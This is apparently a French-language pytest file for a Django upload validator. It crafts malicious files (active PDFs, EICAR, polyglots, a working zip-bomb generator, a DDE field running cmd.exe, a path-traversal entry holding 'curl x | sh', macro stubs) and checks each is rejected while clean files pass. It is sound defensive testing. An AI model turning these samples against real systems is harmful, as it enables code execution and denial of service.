"""Les dépôts malveillants (issue 16 §3) : chaque échantillon est fabriqué ici, en octets, et
refusé par son contenu avec un code et un message en français, sans rien enregistrer ; les
fichiers sains des sept formats restent acceptés."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest
from django.core.exceptions import ValidationError
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    StreamObject,
    TextStringObject,
)

from socle.documents import verifier_fichier
from socle.models import Document, Evenement
from socle.pdf import pdf_d_archive
from socle.services import document_deposer
from tests.socle import fichiers

pytestmark = pytest.mark.django_db

# La chaîne de test des antivirus (eicar.org), écrite ici en deux morceaux pour que ce fichier
# de tests ne soit pas lui-même pris pour un virus par l'antivirus d'un poste de développement.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
HTML = b"<!DOCTYPE html><html><body><script>fetch('/mon-compte/').then(r=>r.text())</script></body></html>"
NS_OOXML = "http://schemas.openxmlformats.org/officeDocument/2006"


# --- Fabrication des PDF ----------------------------------------------------------------------


def _pdf(modifier: Callable[[PdfWriter], None]) -> bytes:
    ecrivain = PdfWriter()
    ecrivain.add_blank_page(width=595, height=842)
    modifier(ecrivain)
    tampon = io.BytesIO()
    ecrivain.write(tampon)
    return tampon.getvalue()


def _catalogue(ecrivain: PdfWriter, cle: str, valeur: object) -> None:
    ecrivain._root_object[NameObject(cle)] = valeur


def _annotation(ecrivain: PdfWriter, **entrees: object) -> None:
    """Une annotation sur la première page (un lien par défaut) avec les entrées données."""
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject(
                [FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(100)]
            ),
        }
    )
    annotation.update({NameObject(f"/{cle}"): valeur for cle, valeur in entrees.items()})
    page = ecrivain.pages[0]
    page[NameObject("/Annots")] = ArrayObject([ecrivain._add_object(annotation)])


def _action(genre: str, **entrees: object) -> DictionaryObject:
    action = DictionaryObject(
        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(genre)}
    )
    action.update({NameObject(f"/{cle}"): valeur for cle, valeur in entrees.items()})
    return action


def pdf_javascript_a_l_ouverture() -> bytes:
    return _pdf(lambda e: e.add_open_action(JavaScript("app.alert('bonjour');")))


def pdf_javascript_du_document() -> bytes:
    def ajouter(ecrivain: PdfWriter) -> None:
        script = ecrivain._add_object(_action("/JavaScript", JS=TextStringObject("app.launchURL('x');")))
        noms = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
        _catalogue(ecrivain, "/Names", DictionaryObject({NameObject("/JavaScript"): noms}))

    return _pdf(ajouter)


def pdf_lancement_a_l_ouverture() -> bytes:
    lancer = _action("/Launch", F=TextStringObject("cmd.exe"), Win=DictionaryObject())
    return _pdf(lambda e: _catalogue(e, "/OpenAction", lancer))


def pdf_impression_a_l_ouverture() -> bytes:
    imprimer = _action("/Named", N=NameObject("/Print"))
    return _pdf(lambda e: _catalogue(e, "/OpenAction", imprimer))


def pdf_lien_qui_lance_un_programme() -> bytes:
    return _pdf(lambda e: _annotation(e, A=_action("/Launch", F=TextStringObject("calc.exe"))))


def pdf_action_de_page_automatique() -> bytes:
    def ajouter(ecrivain: PdfWriter) -> None:
        ouverture = _action("/URI", URI=TextStringObject("https://pisteur.exemple/"))
        ecrivain.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): ouverture})

    return _pdf(ajouter)


def pdf_formulaire_qui_envoie() -> bytes:
    envoi = _action("/SubmitForm", F=TextStringObject("https://collecte.exemple/"))
    return _pdf(lambda e: _annotation(e, Subtype=NameObject("/Widget"), A=envoi))


def pdf_formulaire_xfa() -> bytes:
    xfa = StreamObject()
    xfa.set_data(b"<xdp:xdp><script>xfa.host.messageBox('x')</script></xdp:xdp>")
    formulaire = DictionaryObject({NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): xfa})
    return _pdf(lambda e: _catalogue(e, "/AcroForm", e._add_object(formulaire)))


def pdf_lien_javascript() -> bytes:
    return _pdf(lambda e: _annotation(e, A=_action("/URI", URI=TextStringObject("javascript:alert(1)"))))


def pdf_multimedia() -> bytes:
    return _pdf(lambda e: _annotation(e, Subtype=NameObject("/RichMedia")))


def pdf_exe_joint() -> bytes:
    return _pdf(lambda e: e.add_attachment("facture.exe", EXE))


def pdf_eicar_joint() -> bytes:
    return _pdf(lambda e: e.add_attachment("eicar.com", EICAR))


def pdf_puis_html() -> bytes:
    return fichiers.pdf() + HTML


def pdf_avec_html_en_commentaire() -> bytes:
    contenu = fichiers.pdf()
    fin_de_ligne = contenu.index(b"\n") + 1
    return contenu[:fin_de_ligne] + b"%" + HTML + b"\n" + contenu[fin_de_ligne:]


def pdf_puis_zip() -> bytes:
    return fichiers.pdf() + fichiers.archive({"lisez-moi.exe": EXE})


def pdf_avec_zip_dans_un_flux() -> bytes:
    def ajouter(ecrivain: PdfWriter) -> None:
        flux = StreamObject()
        flux.set_data(fichiers.archive({"outil.exe": EXE}))
        _catalogue(ecrivain, "/PieceLibre", ecrivain._add_object(flux))

    return _pdf(ajouter)


def pdf_precede_d_un_bom() -> bytes:
    return b"\xef\xbb\xbf" + fichiers.pdf()


# --- Images -----------------------------------------------------------------------------------


def png_avec_texte(texte: bytes) -> bytes:
    infos = PngInfo()
    infos.add_text("Comment", texte.decode("latin-1"))
    tampon = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(tampon, "PNG", pnginfo=infos)
    return tampon.getvalue()


def jpeg_avec_commentaire(commentaire: bytes) -> bytes:
    tampon = io.BytesIO()
    Image.new("RGB", (8, 8), (30, 200, 30)).save(tampon, "JPEG", comment=commentaire)
    return tampon.getvalue()


# --- Archives bureautiques --------------------------------------------------------------------


def zip_deflate_brut(entrees: list[tuple[str, bytes, int, int]]) -> bytes:
    """Une archive ZIP écrite à la main : (nom, flux deflate brut, CRC-32, taille décompressée)
    par entrée ; ainsi une bombe se fabrique sans compresser son gigaoctet."""
    sortie, centrale = io.BytesIO(), io.BytesIO()
    for nom, flux, crc, taille in entrees:
        nom_octets = nom.encode()
        decalage = sortie.tell()
        sortie.write(
            struct.pack(
                "<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(flux), taille, len(nom_octets), 0
            )
        )
        sortie.write(nom_octets + flux)
        centrale.write(
            struct.pack(
                "<4s6H3I5H2I",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0x21,
                crc,
                len(flux),
                taille,
                len(nom_octets),
                0,
                0,
                0,
                0,
                0,
                decalage,
            )
            + nom_octets
        )
    debut, repertoire = sortie.tell(), centrale.getvalue()
    n = len(entrees)
    sortie.write(repertoire + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, n, n, len(repertoire), debut, 0))
    return sortie.getvalue()


def _deflate(donnees: bytes) -> tuple[bytes, int, int]:
    compresseur = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compresseur.compress(donnees) + compresseur.flush(), zlib.crc32(donnees), len(donnees)


def docx_bombe(mio: int) -> bytes:
    """Un DOCX dont `word/document.xml` fait `mio` Mio de zéros : des blocs deflate identiques
    (chacun 1 Mio, dictionnaire remis à zéro), environ 1 Ko par Mio."""
    compresseur = zlib.compressobj(9, zlib.DEFLATED, -15)
    mio_de_zeros = b"\x00" * (1 << 20)
    bloc = compresseur.compress(mio_de_zeros) + compresseur.flush(zlib.Z_FULL_FLUSH)
    flux = bloc * mio + b"\x03\x00"  # dernier bloc, vide
    crc = 0
    for _ in range(mio):
        crc = zlib.crc32(mio_de_zeros, crc)
    entrees = [
        ("[Content_Types].xml", *_deflate(fichiers.TYPES_OOXML.format(surcharges="").encode())),
        ("word/document.xml", flux, crc, mio << 20),
    ]
    return zip_deflate_brut(entrees)


def _remplacer(contenu: bytes, remplacements: dict[str, bytes | str]) -> bytes:
    """Réécrit une archive en remplaçant ou en ajoutant des entrées."""
    with zipfile.ZipFile(io.BytesIO(contenu)) as source:
        entrees: dict[str, bytes | str] = {nom: source.read(nom) for nom in source.namelist()}
    entrees.update(remplacements)
    return fichiers.archive(entrees)


def xlsm_renomme() -> bytes:
    contenu = fichiers.xlsx()
    with zipfile.ZipFile(io.BytesIO(contenu)) as source:
        types = source.read("[Content_Types].xml").decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    types = types.replace(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )
    return _remplacer(contenu, {"[Content_Types].xml": types, "xl/vbaProject.bin": OLE})


def xlsx_lien_externe() -> bytes:
    contenu = fichiers.xlsx()
    with zipfile.ZipFile(io.BytesIO(contenu)) as source:
        relations = source.read("xl/_rels/workbook.xml.rels").decode()
    relations = relations.replace(
        "</Relationships>",
        fichiers.relation("rId99", "externalLink", "externalLinks/externalLink1.xml") + "</Relationships>",
    )
    lien = (
        '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
        "</externalLink>"
    )
    relations_du_lien = fichiers.RELATIONS.format(
        relations=fichiers.relation(
            "rId1", "externalLinkPath", "file:///C:/Finances/salaires.xlsx", externe=True
        )
    )
    return _remplacer(
        contenu,
        {
            "xl/_rels/workbook.xml.rels": relations,
            "xl/externalLinks/externalLink1.xml": lien,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations_du_lien,
        },
    )


def xlsx_relation_externe_seule() -> bytes:
    """Une liaison déclarée dans les relations du classeur, sans le dossier externalLinks."""
    contenu = fichiers.xlsx()
    with zipfile.ZipFile(io.BytesIO(contenu)) as source:
        relations = source.read("xl/_rels/workbook.xml.rels").decode()
    relations = relations.replace(
        "</Relationships>",
        fichiers.relation("rId98", "externalLinkPath", "\\\\serveur\\partage\\budget.xlsx", externe=True)
        + "</Relationships>",
    )
    return _remplacer(contenu, {"xl/_rels/workbook.xml.rels": relations})


def docx_modele_distant() -> bytes:
    reglages = f'<?xml version="1.0"?><w:settings xmlns:w="{NS_OOXML.replace("officeDocument/2006", "wordprocessingml/2006/main")}"/>'  # noqa: E501
    return fichiers.docx(
        entrees={
            "word/settings.xml": reglages,
            "word/_rels/settings.xml.rels": fichiers.RELATIONS.format(
                relations=fichiers.relation(
                    "rId1", "attachedTemplate", "https://modeles.exemple/piege.dotm", externe=True
                )
            ),
        }
    )


def docx_image_liee() -> bytes:
    return fichiers.docx(
        relations_du_document=fichiers.relation("rId5", "image", "http://pisteur.exemple/p.png", externe=True)
    )


def docx_champ_dde() -> bytes:
    document = fichiers.DOCUMENT_WORD.format(texte="x").replace(
        "<w:t>x</w:t>",
        '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
        "</w:instrText>",
    )
    return fichiers.docx(entrees={"word/document.xml": document})


def docx_entites() -> bytes:
    document = (
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>"
    )
    return fichiers.docx(entrees={"word/document.xml": document})


def odt_avec_evenement_macro() -> bytes:
    corps = (
        "<office:text><text:p>Projet</text:p></office:text>"
        '<office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="office:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main'
        '?language=Basic&amp;location=document"/></office:event-listeners>'
    )
    return fichiers.odt(corps)


def ods_source_externe() -> bytes:
    corps = (
        '<office:spreadsheet><table:table table:name="Budget">'
        '<table:table-source xlink:href="file:///C:/Finances/salaires.ods" table:table-name="Feuille1"/>'
        "</table:table></office:spreadsheet>"
    )
    return fichiers.odf("application/vnd.oasis.opendocument.spreadsheet", corps)


def odt_image_distante() -> bytes:
    corps = (
        '<office:text><text:p><draw:frame><draw:image xlink:href="http://pisteur.exemple/p.png"/>'
        "</draw:frame></text:p></office:text>"
    )
    return fichiers.odt(corps)


def odt_chiffre() -> bytes:
    chiffrement = (
        '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml">'
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA">'
        '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/>'
        "</manifest:encryption-data></manifest:file-entry>"
    )
    return fichiers.odt(manifeste=chiffrement)


# (identifiant, nom du fichier, fabrique, code attendu, morceau du message)
MALVEILLANTS: list[tuple[str, str, Callable[[], bytes], str, str]] = [
    # PDF : contenu actif et fichiers joints
    ("pdf-js-ouverture", "note.pdf", pdf_javascript_a_l_ouverture, "pdf_actif", "contenu actif"),
    ("pdf-js-document", "note.pdf", pdf_javascript_du_document, "pdf_actif", "du JavaScript"),
    ("pdf-lancement-ouverture", "note.pdf", pdf_lancement_a_l_ouverture, "pdf_actif", "« Imprimer »"),
    ("pdf-impression-ouverture", "note.pdf", pdf_impression_a_l_ouverture, "pdf_actif", "à l'ouverture"),
    ("pdf-lien-lance", "note.pdf", pdf_lien_qui_lance_un_programme, "pdf_actif", "lance un programme"),
    ("pdf-action-page", "note.pdf", pdf_action_de_page_automatique, "pdf_actif", "toutes seules"),
    ("pdf-envoi-formulaire", "note.pdf", pdf_formulaire_qui_envoie, "pdf_actif", "envoie des données"),
    ("pdf-xfa", "note.pdf", pdf_formulaire_xfa, "pdf_actif", "XFA"),
    ("pdf-lien-javascript", "note.pdf", pdf_lien_javascript, "pdf_actif", "exécute du code"),
    ("pdf-multimedia", "note.pdf", pdf_multimedia, "pdf_actif", "multimédia"),
    ("pdf-exe-joint", "note.pdf", pdf_exe_joint, "pdf_fichier_joint", "fichiers joints"),
    ("pdf-eicar-joint", "note.pdf", pdf_eicar_joint, "virus", "EICAR"),
    # Polyglottes
    ("pdf+html", "note.pdf", pdf_puis_html, "polyglotte", "des données suivent la fin du PDF"),
    ("pdf-html-commentaire", "note.pdf", pdf_avec_html_en_commentaire, "polyglotte", "page HTML"),
    ("pdf+zip", "note.pdf", pdf_puis_zip, "polyglotte", "des données suivent la fin du PDF"),
    ("pdf-zip-dans-un-flux", "note.pdf", pdf_avec_zip_dans_un_flux, "polyglotte", "archive ZIP"),
    ("pdf-bom", "note.pdf", pdf_precede_d_un_bom, "polyglotte", "précèdent l'en-tête"),
    ("png+html", "photo.png", lambda: fichiers.png() + HTML, "polyglotte", "suivent la fin de l'image"),
    ("png-html-texte", "photo.png", lambda: png_avec_texte(HTML), "polyglotte", "page HTML"),
    ("png+zip", "photo.png", lambda: fichiers.png() + fichiers.archive({"a.exe": EXE}), "polyglotte", "fin"),
    (
        "jpeg+zip",
        "photo.jpg",
        lambda: fichiers.jpeg() + fichiers.archive({"a.exe": EXE}),
        "polyglotte",
        "fin",
    ),
    ("jpeg-html-commentaire", "photo.jpg", lambda: jpeg_avec_commentaire(HTML), "polyglotte", "page HTML"),
    # EICAR
    ("png-eicar", "photo.png", lambda: png_avec_texte(EICAR), "virus", "EICAR"),
    ("docx-eicar", "devis.docx", lambda: fichiers.docx(EICAR.decode()), "virus", "EICAR"),
    # Bombes de décompression
    ("docx-bombe-1-gio", "devis.docx", lambda: docx_bombe(1024), "archive_trop_grosse", "pèserait 1,0"),
    ("docx-taux", "devis.docx", lambda: docx_bombe(50), "archive_trop_grosse", "fois plus gros"),
    # Entrées étrangères, programmes, archives imbriquées
    (
        "docx-zip-d-un-exe",
        "devis.docx",
        lambda: fichiers.archive({"word/setup.exe": EXE}),
        "entree_interdite",
        "« word/setup.exe »",
    ),
    (
        "docx-exe-en-plus",
        "devis.docx",
        lambda: fichiers.docx(entrees={"word/outil.exe": EXE}),
        "entree_interdite",
        "n'a pas sa place dans un fichier DOCX",
    ),
    (
        "docx-image-qui-est-un-exe",
        "devis.docx",
        lambda: fichiers.docx(entrees={"word/media/image1.png": EXE}),
        "entree_interdite",
        "image1.png",
    ),
    (
        "docx-archive-imbriquee",
        "devis.docx",
        lambda: fichiers.docx(entrees={"word/media/image1.png": fichiers.archive({"a.txt": "a"})}),
        "archive_imbriquee",
        "une autre archive",
    ),
    (
        "docx-chemin-hors-archive",
        "devis.docx",
        lambda: fichiers.docx(entrees={"../../.bashrc": "curl x | sh"}),
        "entree_interdite",
        "../../.bashrc",
    ),
    ("docx-entites-xml", "devis.docx", docx_entites, "entree_interdite", "<!ENTITY>"),
    # Macros, objets incorporés
    ("xlsm-renomme-xlsx", "budget.xlsx", xlsm_renomme, "macro", "sans macros"),
    (
        "docx-vba",
        "devis.docx",
        lambda: fichiers.docx(entrees={"word/vbaProject.bin": OLE}),
        "macro",
        "Enregistrez-le au format DOCX sans macros",
    ),
    (
        "docx-activex",
        "devis.docx",
        lambda: fichiers.docx(entrees={"word/activeX/activeX1.xml": "<ax:ocx/>"}),
        "objet_incorpore",
        "objet incorporé",
    ),
    (
        "docx-ole",
        "devis.docx",
        lambda: fichiers.docx(entrees={"word/embeddings/oleObject1.bin": OLE}),
        "objet_incorpore",
        "objet incorporé",
    ),
    (
        "odt-basic",
        "projet.odt",
        lambda: fichiers.odt(entrees={"Basic/Standard/Module1.xml": "<script:module/>"}),
        "macro",
        "format ODT sans macros",
    ),
    ("odt-evenement-macro", "projet.odt", odt_avec_evenement_macro, "macro", "macros"),
    (
        "odt-manifeste-script",
        "projet.odt",
        lambda: fichiers.odt(
            manifeste='<manifest:file-entry manifest:full-path="Scripts/python/x.py" '
            'manifest:media-type="application/binary"/>'
        ),
        "macro",
        "macros",
    ),
    # Liens externes
    ("xlsx-lien-externe", "budget.xlsx", xlsx_lien_externe, "lien_externe", "un autre classeur"),
    ("xlsx-relation-externe", "budget.xlsx", xlsx_relation_externe_seule, "lien_externe", "externalLinkPath"),
    ("docx-modele-distant", "devis.docx", docx_modele_distant, "lien_externe", "attachedTemplate"),
    ("docx-image-liee", "devis.docx", docx_image_liee, "lien_externe", "« image »"),
    ("docx-champ-dde", "devis.docx", docx_champ_dde, "lien_externe", "champ DDE"),
    ("ods-source-externe", "budget.ods", ods_source_externe, "lien_externe", "extérieurs"),
    ("odt-image-distante", "projet.odt", odt_image_distante, "lien_externe", "extérieurs"),
    # Protégés par mot de passe : illisibles pour le contrôle
    ("odt-chiffre", "projet.odt", odt_chiffre, "archive_chiffree", "mot de passe"),
]


def _lien_et_ouverture_page_1(ecrivain: PdfWriter) -> None:
    """Un lien web (qu'on clique) et l'ouverture à la page 1 : ni l'un ni l'autre n'est actif."""
    _annotation(ecrivain, A=_action("/URI", URI=TextStringObject("https://www.ars.sante.fr/")))
    destination = ArrayObject([ecrivain.pages[0].indirect_reference, NameObject("/Fit")])
    _catalogue(ecrivain, "/OpenAction", destination)


SAINS: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("pdf", "note.pdf", fichiers.pdf, "application/pdf"),
    ("pdf-lien-et-ouverture-page-1", "note.pdf", lambda: _pdf(_lien_et_ouverture_page_1), "application/pdf"),
    (
        "pdf-a-weasyprint",
        "compte-rendu.pdf",
        lambda: pdf_d_archive(
            '<h1>Compte rendu</h1><p><a href="https://www.lecotentin.fr/">Le Cotentin</a></p>'
        ),
        "application/pdf",
    ),
    ("png", "photo.png", fichiers.png, "image/png"),
    ("jpeg", "photo.jpg", fichiers.jpeg, "image/jpeg"),
    ("jpeg-avec-commentaire", "photo.jpeg", lambda: jpeg_avec_commentaire(b"Maison de sante"), "image/jpeg"),
    (
        "docx",
        "devis.docx",
        fichiers.docx,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    (
        "docx-lien-hypertexte-et-image",
        "devis.docx",
        lambda: fichiers.docx(
            entrees={"word/media/image1.png": fichiers.png()},
            relations_du_document=fichiers.relation(
                "rId2", "hyperlink", "https://www.ars.sante.fr/", externe=True
            )
            + fichiers.relation("rId3", "image", "media/image1.png"),
        ),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    (
        "xlsx",
        "budget.xlsx",
        fichiers.xlsx,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    ("odt", "projet.odt", fichiers.odt, "application/vnd.oasis.opendocument.text"),
    (
        "odt-comme-libreoffice",
        "projet.odt",
        lambda: fichiers.odt(
            entrees={
                "Thumbnails/thumbnail.png": fichiers.png(),
                "Pictures/1000000.png": fichiers.png(),
                "Configurations2/accelerator/current.xml": "",
                "Configurations2/toolbar/": "",
                "styles.xml": "<office:document-styles/>",
            }
        ),
        "application/vnd.oasis.opendocument.text",
    ),
    ("ods", "budget.ods", fichiers.ods, "application/vnd.oasis.opendocument.spreadsheet"),
]


@pytest.mark.parametrize(
    ("nom", "fabrique", "code", "message"),
    [
        pytest.param(nom, fabrique, code, message, id=ident)
        for ident, nom, fabrique, code, message in MALVEILLANTS
    ],
)
def test_un_depot_malveillant_est_refuse_sans_rien_enregistrer(professionnel, nom, fabrique, code, message):
    contenu = fabrique()
    avant = fichiers.stockes()
    with pytest.raises(ValidationError) as erreur:
        document_deposer(fichier=fichiers.fichier(nom, contenu), acteur=professionnel)
    assert erreur.value.code == code, erreur.value.messages
    assert message in erreur.value.messages[0]
    assert not Document.objects.exists()
    assert not Evenement.objects.exists()
    assert fichiers.stockes() == avant


@pytest.mark.parametrize(
    ("nom", "fabrique", "type_mime"),
    [pytest.param(nom, fabrique, type_mime, id=ident) for ident, nom, fabrique, type_mime in SAINS],
)
def test_un_fichier_sain_est_accepte(professionnel, nom, fabrique, type_mime):
    contenu = fabrique()
    document = document_deposer(fichier=fichiers.fichier(nom, contenu), acteur=professionnel)
    assert document.type_mime == type_mime
    assert document.fichier.read() == contenu


def test_la_bombe_tient_dans_un_mio_et_se_declare_d_un_gio():
    contenu = docx_bombe(1024)
    assert len(contenu) < 1_100_000
    with zipfile.ZipFile(io.BytesIO(contenu)) as archive:
        assert archive.getinfo("word/document.xml").file_size == 1 << 30


def test_un_pdf_joint_compresse_est_refuse_comme_fichier_joint():
    """EICAR compressé dans le flux n'est plus visible : c'est le fichier joint qui fait refuser."""

    def ajouter(ecrivain: PdfWriter) -> None:
        ecrivain.add_attachment("eicar.com", EICAR)
        for objet in ecrivain._objects:
            if isinstance(objet, StreamObject) and objet.get("/Type") == "/EmbeddedFile":
                compresse = objet.flate_encode()
                ecrivain._objects[ecrivain._objects.index(objet)] = compresse

    contenu = _pdf(ajouter)
    assert EICAR not in contenu
    with pytest.raises(ValidationError) as erreur:
        verifier_fichier(fichiers.fichier("note.pdf", contenu))
    assert erreur.value.code == "pdf_fichier_joint"


def test_le_taux_de_compression_d_un_petit_fichier_n_est_pas_un_danger():
    """Un petit XML très répétitif se compresse fort sans être une bombe."""
    styles = "<w:styles>" + "<w:style/>" * 50_000 + "</w:styles>"
    contenu = fichiers.docx(entrees={"word/styles.xml": styles[: 1024 * 1024 - 1]})
    assert verifier_fichier(fichiers.fichier("devis.docx", contenu)).endswith("document")


def test_les_limites_des_archives_se_reglent(settings):
    settings.DOCUMENTS_ARCHIVE_TAILLE_MAX = 1024
    with pytest.raises(ValidationError) as erreur:
        verifier_fichier(fichiers.fichier("budget.xlsx", fichiers.xlsx()))
    assert erreur.value.code == "archive_trop_grosse"
    assert "la limite est de 1,0\xa0Kio" in erreur.value.messages[0]


def test_nombre_d_echantillons():
    """Le compte rendu de l'issue 16 §3 : autant d'échantillons malveillants que de refus."""
    assert len(MALVEILLANTS) >= 47 and len(SAINS) >= 12
    assert {code for *_, code, _m in MALVEILLANTS} >= {
        "pdf_actif",
        "pdf_fichier_joint",
        "polyglotte",
        "virus",
        "archive_trop_grosse",
        "entree_interdite",
        "archive_imbriquee",
        "macro",
        "objet_incorpore",
        "lien_externe",
        "archive_chiffree",
    }
